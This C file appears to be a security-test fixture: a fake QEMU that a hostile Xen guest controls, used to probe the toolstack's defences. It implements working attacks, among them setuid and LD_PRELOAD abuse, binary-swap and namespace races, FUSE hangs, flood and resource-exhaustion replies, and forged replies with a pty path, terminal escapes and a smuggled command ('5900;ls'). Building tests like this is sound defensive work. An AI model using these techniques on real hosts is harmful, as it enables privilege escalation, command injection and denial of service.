/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A QEMU that its guest has taken over: root's until it has its sockets, then the attacker's. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/fuse.h>
#include <xenstore.h>

#include "attack.h"

#define BLOCK_HEADING                                                                              \
    "              Block Name    PSize              Offset               Used              "       \
    "Total\n"
#define RAM_LINE                                                                                   \
    "                 xen.ram    4 KiB  0x0000000000000000 0x0000000004000000 "                    \
    "0x0000000004000000\n"
#define VRAM_LINE                                                                                  \
    "   0000:00:02.0/vga.vram    4 KiB  0x0000000004000000 0x0000000001000000 "                    \
    "0x0000000001000000\n"
#define MTREE_HEADING "FlatView #0\n AS \"memory\", root: system\n Root memory region: system\n"
#define VRAM_RANGE "  00000000f1000000-00000000f1ffffff (prio 1, ram): vga.vram\n"

typedef struct Way Way;

/* An attack, selected by the name that follows "-name". Each part may be missing. */
struct Way {
    const char *name;
    void (*as_root)(void);                                        /* before root is given up */
    void (*process)(void);                                        /* what the process does then */
    const char *(*answer)(const char *command, const char *line); /* NULL: as QEMU would */
    void (*serve)(int client);                                    /* instead of answering */
};

static unsigned int domid;
static int trap[2];    /* for a byte from the process that serves the monitor */
static int asker;      /* the client that is being answered */
static int given = -1; /* a descriptor that came over the monitor */

static void die(const char *what)
{
    perror(what);
    exit(1);
}

static void touch(const char *path)
{
    close(open(path, O_WRONLY | O_CREAT, 0600));
}

static void reached(void)
{
    char path[128];

    snprintf(path, sizeof path, ATTACK_REACHED_FORMAT, domid);
    touch(path);
}

static void ready(void)
{
    char path[128];

    snprintf(path, sizeof path, ATTACK_READY_FORMAT, domid);
    touch(path);
}

static void put(int fd, const char *text)
{
    size_t left = strlen(text);

    while (left > 0) {
        ssize_t n = send(fd, text, left, MSG_NOSIGNAL);

        if (n <= 0) {
            return;
        }
        text += n;
        left -= n;
    }
}

/* --- the monitor --- */

/* A JSON string for a text of printable characters and line ends. */
static char *quoted(const char *text)
{
    char *json = malloc(2 * strlen(text) + 3), *at = json;

    *at++ = '"';
    for (; *text; text++) {
        if (*text == '\n' || *text == '"') {
            *at++ = '\\';
        }
        *at++ = *text == '\n' ? 'n' : *text;
    }
    strcpy(at, "\"");
    return json;
}

static const char *honest_answer(const char *command, const char *line)
{
    if (strcmp(command, "query-status") == 0) {
        return "{\"status\": \"running\", \"running\": true}";
    }
    if (strcmp(command, "query-vnc") == 0) {
        return "{\"enabled\": false}";
    }
    if (strcmp(command, "query-migrate") == 0) {
        return "{}";
    }
    if (strncmp(command, "query-", strlen("query-")) == 0) {
        return "[]";
    }
    if (strcmp(command, "add-fd") == 0) {
        return "{\"fdset-id\": 0, \"fd\": 9}";
    }
    if (strcmp(command, "xen-save-devices-state") == 0) {
        write(given, "state", 5);
        return "{}";
    }
    if (strcmp(command, "remove-fd") == 0) {
        close(given);
    }
    if (strcmp(command, "migrate-incoming") == 0 && write(trap[1], "", 1) != 1) {
        die("trap");
    }
    if (strcmp(command, "human-monitor-command") == 0) {
        return strstr(line, "ramblock") ? quoted(BLOCK_HEADING RAM_LINE VRAM_LINE)
                                        : quoted(MTREE_HEADING VRAM_RANGE);
    }
    return "{}";
}

static void answer(int client, const Way *way, const char *line)
{
    const char *at = strstr(line, "\"execute\":\"");
    const char *id = strstr(line, "\"id\":"), *result = NULL;
    char command[64] = "";

    asker = client;
    if (at) {
        sscanf(at, "\"execute\":\"%63[^\"]", command);
    }
    if (way->answer) {
        result = way->answer(command, line);
    }
    put(client, "{\"return\": ");
    put(client, result ? result : honest_answer(command, line));
    if (id) {
        char number[32];

        snprintf(number, sizeof number, ", \"id\": %ld", atol(id + strlen("\"id\":")));
        put(client, number);
    }
    put(client, "}\r\n");
}

/* One line, without a descriptor that comes with it, which becomes `given`. False at the end. */
static bool take_line(int client, char *line, size_t room)
{
    size_t length = 0;

    while (length + 1 < room && (length == 0 || line[length - 1] != '\n')) {
        union {
            struct cmsghdr header;
            char space[CMSG_SPACE(sizeof given)];
        } control = { 0 };
        struct iovec iov = { line + length, 1 };
        struct msghdr message = { .msg_iov = &iov,
                                  .msg_iovlen = 1,
                                  .msg_control = control.space,
                                  .msg_controllen = sizeof control.space };

        if (recvmsg(client, &message, MSG_CMSG_CLOEXEC) != 1) {
            return false;
        }
        if (CMSG_FIRSTHDR(&message) && control.header.cmsg_type == SCM_RIGHTS) {
            memcpy(&given, CMSG_DATA(&control.header), sizeof given);
        }
        length++;
    }
    line[length] = '\0';
    return true;
}

static void greet_and_answer(int client, const Way *way)
{
    char line[4096];

    put(client, "{\"QMP\": {\"version\": {}, \"capabilities\": []}}\r\n");
    while (take_line(client, line, sizeof line)) {
        answer(client, way, line);
    }
}

/* One client after the other, as QEMU does. */
static void serve(int listener, const Way *way)
{
    signal(SIGPIPE, SIG_IGN);
    for (;;) {
        int client = accept(listener, NULL, NULL);

        if (client < 0) {
            die("accept");
        }
        if (way->serve) {
            way->serve(client);
        } else {
            greet_and_answer(client, way);
        }
        close(client);
    }
}

static void spring(void)
{
    reached();
    if (write(trap[1], "", 1) != 1) {
        die("trap");
    }
    /* Waits until the process executes something else. */
    usleep(100000);
}

static void await_trap(void)
{
    char byte;

    if (read(trap[0], &byte, 1) != 1) {
        exit(1);
    }
}

/* --- 1: /proc shows a program that runs as root, with the attacker's words --- */

/* Any set-user-ID program that waits: this is `cat` behind that bit, on a pipe that stays open. */
static void make_setuid_program(void)
{
    if (system("cp /bin/cat " ATTACK_BIN "/waits && chmod 4755 " ATTACK_BIN "/waits")) {
        die("cp");
    }
}

static void become_setuid_program(void)
{
    char number[16];
    char *args[] = { "cat", "--", "-", "-xen-domid", number, NULL };
    char *env[] = { "LD_PRELOAD=" ATTACK_EVIL "/xen-physmap-qemu.so", NULL };

    snprintf(number, sizeof number, "%u", domid);
    dup2(trap[0], STDIN_FILENO);
    execve(ATTACK_BIN "/waits", args, env);
    die("execve");
}

/* --- 2: the program is replaced after it was checked --- */

/* As a package's upgrade does, so that only the process has the old file. */
static void replace_program(void)
{
    if (system("cp " ATTACK_QEMU " " ATTACK_QEMU ".new && mv " ATTACK_QEMU ".new " ATTACK_QEMU)) {
        die("cp");
    }
}

static void become_payload(void)
{
    await_trap();
    execl(ATTACK_EVIL "/payload", "qemu", (char *)NULL);
    die("execl");
}

static const char *spring_at_images(const char *command, const char *line)
{
    (void)line;
    if (strcmp(command, "query-named-block-nodes") == 0) {
        spring();
    }
    return NULL;
}

/* --- 3: the path of the program is only right in a namespace of the attacker's --- */

static void put_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);

    if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text)) {
        die(path);
    }
    close(fd);
}

/* A file that a process may only write to about itself, and not after it gave up root. */
static void enter_namespaces(void)
{
    char map[64];

    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
        die("unshare");
    }
    snprintf(map, sizeof map, "0 %d 1", ATTACK_UID);
    put_file("/proc/self/uid_map", map);
    put_file("/proc/self/setgroups", "deny");
    put_file("/proc/self/gid_map", map);
}

static void run_bound_program(void)
{
    mkdir(ATTACK_EVIL "/d", 0755);
    if (symlink("/usr/bin/sleep", ATTACK_EVIL "/d/sleep")) {
        die("symlink");
    }
    enter_namespaces();
    if (mount("/usr/bin", ATTACK_EVIL "/d", NULL, MS_BIND, NULL)) {
        die("mount");
    }
    execl(ATTACK_EVIL "/d/sleep", "sleep", "1000", (char *)NULL);
    die("execl");
}

static const char *swap_at_images(const char *command, const char *line)
{
    (void)line;
    if (strcmp(command, "query-named-block-nodes") == 0) {
        unlink(ATTACK_EVIL "/d/sleep");
        if (symlink(ATTACK_EVIL "/payload", ATTACK_EVIL "/d/sleep")) {
            die("symlink");
        }
        reached();
    }
    return NULL;
}

/* --- endless waits --- */

#define FUSE_DEVICE ATTACK_FOLDER "/fuse"

/* Many hosts let everybody open it. */
static void make_fuse_device(void)
{
    if (mknod(FUSE_DEVICE, S_IFCHR, makedev(10, 229)) && errno != EEXIST) {
        die("mknod");
    }
    chmod(FUSE_DEVICE, 0666);
}

/* A file system of the attacker's that answers the first request and no other. */
static void mount_silence(void)
{
    char options[128];
    int fd;
    char request[65536];
    struct {
        struct fuse_out_header header;
        struct fuse_init_out init;
    } reply = { { .len = sizeof reply }, { .major = 7, .minor = 31, .max_write = 4096 } };

    enter_namespaces();
    fd = open(FUSE_DEVICE, O_RDWR);
    mkdir(ATTACK_EVIL "/fuse", 0755);
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
    if (mount("silence", ATTACK_EVIL "/fuse", "fuse", 0, options)) {
        die("mount");
    }
    if (fork() == 0) {
        bool begun = false;

        while (read(fd, request, sizeof request) > 0) {
            if (!begun) {
                reply.header.unique = ((struct fuse_in_header *)request)->unique;
                begun = write(fd, &reply, sizeof reply) == sizeof reply;
            } else {
                reached();
            }
        }
        exit(1);
    }
    for (;;) {
        pause();
    }
}

static const char *image_on_silence(const char *command, const char *line)
{
    (void)line;
    return strcmp(command, "query-named-block-nodes") == 0
               ? "[{\"drv\": \"file\", \"ro\": false, \"file\": \"" ATTACK_EVIL "/fuse/disk\"}]"
               : NULL;
}

/* Doesn't answer the command for which the guest is paused. A client that gave up may ask again. */
static const char *silent_save(const char *command, const char *line)
{
    struct pollfd pollfd = { .fd = asker, .events = POLLRDHUP };

    (void)line;
    if (strcmp(command, "xen-save-devices-state") == 0) {
        reached();
        poll(&pollfd, 1, -1);
    }
    return NULL;
}

static const char *images_on_silence(const char *command, const char *line)
{
    static const char image[] =
        "{\"drv\": \"file\", \"ro\": false, \"file\": \"" ATTACK_EVIL "/fuse/disk\"},";
    char *text = malloc(1000 * sizeof image), *at = text;

    (void)line;
    if (strcmp(command, "query-named-block-nodes") != 0) {
        return NULL;
    }
    *at++ = '[';
    for (unsigned int i = 0; i < 900; i++) {
        at = stpcpy(at, image);
    }
    at[-1] = ']';
    return text;
}

static void wait_for_ever(int client)
{
    (void)client;
    reached();
    for (;;) {
        pause();
    }
}

/* A byte now and then, so that each wait for input ends in time. */
static void dribble(int client)
{
    while (send(client, " ", 1, MSG_NOSIGNAL) == 1) {
        reached();
        usleep(100000);
    }
}

/* Sends events endlessly, so that there is always something to read. */
static void flood(int client)
{
    put(client, "{\"QMP\": {\"version\": {}, \"capabilities\": []}}\r\n");
    reached();
    while (send(client, "{\"event\": \"RTC_CHANGE\"}\r\n", 25, MSG_NOSIGNAL) == 25) {
    }
}

static const char *huge_block(const char *command, const char *line)
{
    if (strcmp(command, "human-monitor-command") != 0 || !strstr(line, "ramblock")) {
        return NULL;
    }
    reached();
    return quoted(BLOCK_HEADING RAM_LINE "  0000:00:02.0/vga.vram    4 KiB  0x0000000000000000 "
                                         "0x4000000000000000 0x4000000000000000\n");
}

/* 1000 blocks of one bare name, and 100000 places where each of them may be. */
static const char *many_ranges(const char *command, const char *line)
{
    char *text = malloc(16 * 1024 * 1024), *at = text;

    if (strcmp(command, "human-monitor-command") != 0) {
        return NULL;
    }
    if (strstr(line, "ramblock")) {
        at += sprintf(at, "%s", BLOCK_HEADING RAM_LINE);
        for (unsigned int i = 0; i < 1000; i++) {
            at += sprintf(at, "  %x/r  4 KiB  0x%x 0x1000 0x1000\n", i, 0x8000000 + i * 0x1000);
        }
    } else {
        at += sprintf(at, "%s", MTREE_HEADING);
        for (unsigned int i = 0; i < 100000; i++) {
            at += sprintf(at, "  %x-%x (prio 1, ram): r\n", 0x10000000 + i * 0x1000,
                          0x10000fff + i * 0x1000);
        }
        reached();
    }
    return quoted(text);
}

/* --- endless files and memory --- */

static const char *endless_state(const char *command, const char *line)
{
    static char block[65536];

    (void)line;
    if (strcmp(command, "xen-save-devices-state") != 0) {
        return NULL;
    }
    reached();
    while (write(given, block, sizeof block) > 0) {
    }
    return "{}";
}

/* As many words in a line, or lines, as a reply can have. */
static const char *many_words(const char *command, const char *line)
{
    const size_t size = 7 * 1024 * 1024;
    bool blocks = strstr(line, "ramblock");
    char *text;

    if (strcmp(command, "human-monitor-command") != 0) {
        return NULL;
    }
    text = calloc(1, size + 1000);
    sprintf(text, "%s", blocks ? BLOCK_HEADING RAM_LINE VRAM_LINE : MTREE_HEADING);
    memset(text + strlen(text), blocks ? ' ' : '\n', size / (blocks ? 1 : 2));
    return quoted(text);
}

/* --- replies that no reader should take --- */

/* xl opens it as root. */
static const char *forged_console(const char *command, const char *line)
{
    (void)line;
    return strcmp(command, "query-chardev") == 0
               ? "[{\"label\": \"serial0\", \"filename\": \"pty:" ATTACK_FOLDER "/victim\"}]"
               : NULL;
}

/* xl gives it to a viewer. */
static const char *forged_display(const char *command, const char *line)
{
    (void)line;
    return strcmp(command, "query-vnc") == 0
               ? "{\"enabled\": true, \"host\": \"x\\u001b[2J\", \"service\": \"5900;ls\"}"
               : NULL;
}

static const char *duplicate_keys(const char *command, const char *line)
{
    (void)line;
    return strcmp(command, "query-status") == 0
               ? "{\"status\": \"paused\", \"status\": \"running\"}"
               : NULL;
}

static const Way ways[] = {
    { .name = "honest" },
    { "setuid-program", make_setuid_program, become_setuid_program, NULL, NULL },
    { "program-changes", replace_program, become_payload, spring_at_images, NULL },
    { "bind-mount", NULL, run_bound_program, swap_at_images, NULL },
    { "silent-disk", make_fuse_device, mount_silence, image_on_silence, NULL },
    { "silent-disks", make_fuse_device, mount_silence, images_on_silence, NULL },
    { "no-accept", NULL, NULL, NULL, NULL },
    { "silent-monitor", NULL, NULL, NULL, wait_for_ever },
    { "silent-save", NULL, NULL, silent_save, NULL },
    { "dribble", NULL, NULL, NULL, dribble },
    { "flood", NULL, NULL, NULL, flood },
    { "huge-block", NULL, NULL, huge_block, NULL },
    { "many-words", NULL, NULL, many_words, NULL },
    { "many-ranges", NULL, NULL, many_ranges, NULL },
    { "endless-state", NULL, NULL, endless_state, NULL },
    { "forged-console", NULL, NULL, forged_console, NULL },
    { "forged-display", NULL, NULL, forged_display, NULL },
    { "duplicate-keys", NULL, NULL, duplicate_keys, NULL },
    { 0 },
};

/* --- the program --- */

static const char *argument(char **argv, const char *option)
{
    for (; *argv; argv++) {
        if (strcmp(*argv, option) == 0 && argv[1]) {
            return argv[1];
        }
    }
    return NULL;
}

/* Where the launcher wants the monitor for tools. */
static int listen_for_tools(char **argv)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    for (; *argv && !address.sun_path[0]; argv++) {
        const char *at = strstr(*argv, "path=/run/xen/qmp-physmap-");

        if (at) {
            sscanf(at, "path=%100[^,]", address.sun_path);
        }
    }
    unlink(address.sun_path);
    /* Of two clients at a time the second waits for the first, and a third even to be connected. */
    if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 1)) {
        die("listen");
    }
    return listener;
}

/* The other end of the component's monitor. */
static int find_component(char **argv)
{
    int fd = -1;

    for (; *argv; argv++) {
        sscanf(*argv, "socket,id=xen-physmap-component,fd=%d", &fd);
    }
    return fd;
}

static void give_up_root(void)
{
    if (geteuid() == 0 && (setgroups(0, NULL) || setresgid(ATTACK_UID, ATTACK_UID, ATTACK_UID) ||
                           setresuid(ATTACK_UID, ATTACK_UID, ATTACK_UID))) {
        die("setresuid");
    }
}

/* When it has been told to load the old QEMU's state. */
static void take_over(struct xs_handle *xs)
{
    char path[128];

    snprintf(path, sizeof path, "/local/domain/0/device-model/%u/state", domid);
    await_trap();
    xs_write(xs, XBT_NULL, path, "running", strlen("running"));
}

/* The answers of an honest program to -version and the like. */
static int tell(char **argv)
{
    if (argument(argv, "-machine")) {
        puts("Supported machines are:\nxenfv                Xen Fully-virtualized PC");
    } else if (argument(argv, "-L")) {
        puts("/usr/share/qemu");
    } else {
        puts("QEMU emulator version 7.2.22");
    }
    return 0;
}

int main(int argc, char **argv)
{
    const char *name = argument(argv, "-name"), *number = argument(argv, "-xen-domid");
    const Way *way = ways;
    struct xs_handle *xs;
    int listener, component;

    (void)argc;
    if (!name || !number) {
        return tell(argv);
    }
    domid = strtoul(number, NULL, 10);
    while (way->name && strcmp(way->name, name) != 0) {
        way++;
    }
    if (!way->name || pipe(trap)) {
        die(name);
    }
    listener = listen_for_tools(argv);
    component = find_component(argv);
    if (way->as_root) {
        way->as_root();
    }
    if (fork() == 0) {
        give_up_root();
        greet_and_answer(component, ways);
        exit(0);
    }
    close(component);
    xs = xs_open(0);
    give_up_root();
    ready();
    if (strcmp(name, "no-accept") == 0) {
        for (;;) {
            pause();
        }
    }
    /* The sibling ends with the process, whatever that becomes. */
    if (fork() == 0) {
        serve(listener, way);
    }
    if (argument(argv, "-incoming")) {
        take_over(xs);
    }
    if (way->process) {
        way->process();
    }
    for (;;) {
        pause();
    }
}
